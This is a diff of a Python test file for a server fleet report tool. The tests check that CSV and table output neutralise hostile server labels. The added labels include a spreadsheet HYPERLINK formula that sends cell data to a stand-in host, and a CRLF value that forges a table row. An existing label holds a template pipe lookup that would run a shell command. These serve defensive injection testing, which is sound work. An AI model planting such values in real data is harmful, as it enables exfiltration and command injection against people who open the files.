@@ -89,7 +89,7 @@ def per_server(server_id, record=False):
 def test_the_whole_fleet_as_a_table_csv_and_json_reading_only(emulator, tmp_path):
     emulator.clock(mode='manual')
     ids = [server['id'] for server in get(emulator, '/servers', limit=100)['servers']]
-    nulled, off, installing, labelled = ids[1], ids[2], ids[3], ids[4]
+    nulled, off, installing, labelled, formula, forged = ids[1], ids[2], ids[3], ids[4], ids[5], ids[6]
     nulled_ip = get(emulator, '/servers/%s' % nulled)['networkInterfaces']['public']['ip'].split('/')[0]
     assert emulator.api('POST', '/servers/%s/ips/%s/null' % (nulled, nulled_ip)).status_code == 202
     assert emulator.api('POST', '/servers/%s/powerOff' % off).status_code == 204
@@ -97,6 +97,11 @@ def test_the_whole_fleet_as_a_table_csv_and_json_reading_only(emulator, tmp_path
     # a label with a comma, quotes and a template: data, written as it is
     label = 'web, "edge" {{ lookup(\'pipe\', \'id\') }}'
     assert emulator.api('PUT', '/servers/%s' % labelled, json={'reference': label}).status_code == 204
+    # hostile labels: a formula a spreadsheet would run, and a line break that would forge a row of the table
+    hyperlink = '=HYPERLINK("http://x.example/"&A1,"click")'
+    crlf = 'edge\r\n99999  forged-row'
+    for server_id, reference in ((formula, hyperlink), (forged, crlf)):
+        assert emulator.api('PUT', '/servers/%s' % server_id, json={'reference': reference}).status_code == 204
     emulator.clock(advance=1)
     emulator.clear()
 
@@ -110,7 +115,13 @@ def test_the_whole_fleet_as_a_table_csv_and_json_reading_only(emulator, tmp_path
 
     wanted = [expected(emulator, server_id) for server_id in sorted(ids, key=int)]
     rows = read_csv(tmp_path / 'leaseweb-report.csv')
+    # the formula is neutralized (OWASP): a single quote in front makes it text in a spreadsheet
+    for row, _entry in wanted:
+        if row['id'] == formula:
+            row['reference'] = "'" + hyperlink
     assert rows == [row for row, _entry in wanted]
+    text = (tmp_path / 'leaseweb-report.csv').read_text()
+    assert '"\'=HYPERLINK(""http://x.example/""&A1,""click"")"' in text and ',=HYPERLINK' not in text
     document = json.loads((tmp_path / 'leaseweb-report.json').read_text())
     assert document == {'servers': [entry for _row, entry in wanted], 'missing': []}
 
@@ -130,7 +141,10 @@ def test_the_whole_fleet_as_a_table_csv_and_json_reading_only(emulator, tmp_path
     progress = by_id[installing]['job_progress']
     assert 'install %s%%  DEBIAN_12_64BIT (ACTIVE)"' % progress in out
     on = sum(1 for row in rows if row['power'] == 'on')
-    assert '"40 server(s); %d on, %d off; 1 running a job; 1 null routed"' % (on, 40 - on) in out
+    assert '"40 servers; %d on, %d off; 1 running a job; 1 null routed"' % (on, 40 - on) in out
+    # the line break of a reference is shown escaped, in its row: no row is forged
+    assert '"%s  edge\\\\r\\\\n99999  forged-row  ' % forged in out
+    assert '"99999  forged-row' not in out
     assert '"CSV file: %s"' % (tmp_path / 'leaseweb-report.csv') in out
     assert 'changed=2' in out
 
@@ -164,7 +178,7 @@ def test_check_mode_shows_the_table_and_writes_no_file(emulator, tmp_path):
     assert result.returncode == 0, result.stdout[-20000:]
     assert calls(log) == collections.Counter(['GET /servers/12345', 'GET /servers/12345/powerInfo',
                                               'GET /servers/99999', 'GET /servers/99999/powerInfo'])
-    assert '"1 server(s); 1 on, 0 off; 0 null routed; not found (HTTP 404): 99999"' in result.stdout
+    assert '"1 server; 1 on, 0 off; 0 null routed; not found (HTTP 404): 99999"' in result.stdout
     assert '(not written in check mode)' in result.stdout
     assert list(tmp_path.iterdir()) == []
 
